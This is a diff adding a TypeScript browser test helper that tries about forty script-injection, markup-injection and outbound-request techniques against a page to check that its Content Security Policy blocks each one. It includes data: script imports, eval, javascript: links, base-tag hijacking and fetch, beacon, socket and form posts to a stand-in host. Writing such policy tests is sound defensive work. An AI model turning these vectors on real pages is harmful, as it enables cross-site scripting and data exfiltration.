@@ -1,0 +1,110 @@
+/** What of the attacks on a page succeeded, and the directives of its policy that none of them ran into. */
+interface Outcome {
+	readonly succeeded: readonly string[];
+	readonly missed: readonly string[];
+}
+
+/**
+ * Does to a page what text that became script or markup would try, and says what succeeded. Whether anything went out to
+ * another host is seen by the watch of the test. Runs in the page, whole: it may name nothing outside itself.
+ */
+export async function attackPage(expected: readonly string[]): Promise<Outcome> {
+	const STRANGER = 'http://stranger.example';
+	const world = globalThis as unknown as Record<string, unknown>;
+	const directives = new Set<string>();
+	const missed = () => expected.filter((each) => !directives.has(each));
+	const settled = async () => {
+		for (let waits = 0; waits < 50 && missed().length > 0; waits += 1)
+			await new Promise((resolve) => setTimeout(resolve, 50));
+	};
+	document.addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));
+
+	const host = document.createElement('div');
+	document.body.append(host);
+	const make = (name: string, attributes: Readonly<Record<string, string>>, text = '') => {
+		const element = document.createElement(name);
+		for (const [each, value] of Object.entries(attributes)) element.setAttribute(each, value);
+		element.append(text);
+		host.append(element);
+		return element;
+	};
+	const hit = (name: string) => `hit=(globalThis.hit||[]).concat('${name}')`;
+
+	/** Each gives true, or sets the mark of its name, if it succeeds. */
+	const attacks: Readonly<Record<string, () => unknown>> = {
+		'inline script': () => make('script', {}, hit('inline script')),
+		'inline module': () => make('script', { type: 'module' }, hit('inline module')),
+		'script element': () => make('script', { src: `${STRANGER}/a.js` }) && false,
+		'script of data': () => make('script', { src: `data:text/javascript,${hit('script of data')}` }) && false,
+		'imported script': () => import(`${STRANGER}/a.js` as string),
+		'imported data': () => import(`data:text/javascript,${hit('imported data')}` as string),
+		'event handler': () => (make('button', { onclick: hit('event handler') }) as HTMLButtonElement).click(),
+		'javascript: link': () =>
+			(make('a', { href: `javascript:${hit('javascript: link')}` }) as HTMLAnchorElement).click(),
+		eval: () => (0, eval)('true'),
+		Function: () => new Function('return true')(),
+		'string timer': () => void setTimeout(hit('string timer')),
+		innerHTML: () => ((host.innerHTML = '<b>x</b>'), host.querySelector('b') !== null),
+		outerHTML: () => ((make('p', {}).outerHTML = '<b>x</b>'), host.querySelector('b') !== null),
+		insertAdjacentHTML: () => (host.insertAdjacentHTML('beforeend', '<b>x</b>'), true),
+		'document.write': () => (document.write('<b>x</b>'), true),
+		DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html') !== null,
+		fragment: () => document.createRange().createContextualFragment('<b>x</b>') !== null,
+		'frame of text': () => ((document.createElement('iframe').srcdoc = '<b>x</b>'), true),
+		'policy of its own': () =>
+			trustedTypes?.createPolicy('own', { createScriptURL: (text) => text }) !== undefined,
+		'default policy': () =>
+			trustedTypes?.createPolicy('default', { createScriptURL: (text) => text }) !== undefined,
+		'worker of text': () => (new Worker(URL.createObjectURL(new Blob(['']))), true),
+		'service worker': () => navigator.serviceWorker.register('/other.js'),
+		'style attribute': () =>
+			getComputedStyle(make('p', { style: 'color: rgb(1, 2, 3)' })).color === 'rgb(1, 2, 3)',
+		'style element': () => {
+			make('style', {}, '.attacked { color: rgb(1, 2, 3) }');
+			return getComputedStyle(make('p', { class: 'attacked' })).color === 'rgb(1, 2, 3)';
+		},
+		'foreign sheet': () => make('link', { rel: 'stylesheet', href: `${STRANGER}/a.css` }) && false,
+		fetch: () => fetch(`${STRANGER}/`, { mode: 'no-cors' }),
+		'fetch of the local net': () => fetch('http://192.168.0.1/', { mode: 'no-cors' }),
+		socket: () => void new WebSocket('ws://stranger.example/'),
+		beacon: () => navigator.sendBeacon(`${STRANGER}/`, 'x') && false,
+		events: () => void new EventSource(`${STRANGER}/`),
+		image: () => make('img', { src: `${STRANGER}/a.png` }) && false,
+		sound: () => make('audio', { src: `${STRANGER}/a.mp3` }) && false,
+		object: () => make('object', { data: `${STRANGER}/a` }) && false,
+		manifest: () => document.head.append(make('link', { rel: 'manifest', href: `${STRANGER}/a.json` })),
+		font: () => new FontFace('x', `url(${STRANGER}/a.woff2)`).load(),
+		frame: () => make('iframe', { src: `${STRANGER}/` }) && false,
+		'frame of its own page': () =>
+			new Promise<boolean>((resolve) => {
+				const frame = make('iframe', { src: '/404' }) as HTMLIFrameElement;
+				frame.addEventListener('load', () => resolve(!!frame.contentDocument?.title));
+			}),
+		form: () => (make('form', { action: `${STRANGER}/`, method: 'post' }) as HTMLFormElement).submit(),
+		'form to itself': () => (make('form', { action: '/', method: 'post' }) as HTMLFormElement).submit(),
+		base: () => (
+			document.head.prepend(make('base', { href: `${STRANGER}/` })),
+			document.baseURI.startsWith(STRANGER)
+		),
+	};
+
+	return new Promise((resolve) => {
+		// From a task of its own: a debugger's is exempt from the policy.
+		setTimeout(async () => {
+			const succeeded: string[] = [];
+			for (const [name, attack] of Object.entries(attacks))
+				try {
+					const result = await attack();
+					if (result !== undefined && result !== false && !(result instanceof Element)) succeeded.push(name);
+				} catch {
+					// Refused, as it is to be.
+				}
+			await settled();
+			host.remove();
+			resolve({
+				succeeded: [...succeeded, ...((world['hit'] as string[] | undefined) ?? [])],
+				missed: missed(),
+			});
+		});
+	});
+}
